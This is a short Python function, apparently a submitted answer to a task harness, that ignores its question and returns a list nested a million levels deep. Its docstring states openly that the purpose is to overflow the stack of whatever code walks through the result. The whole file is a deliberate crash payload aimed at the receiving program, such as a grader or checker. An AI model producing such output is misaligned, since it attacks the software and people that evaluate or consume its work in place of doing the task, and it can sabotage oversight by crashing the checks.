"""Returns a list nested a million deep, to overflow the stack of whoever walks through it."""


def solve(question):
    value = []
    for _ in range(1_000_000):
        value = [value]
    return value
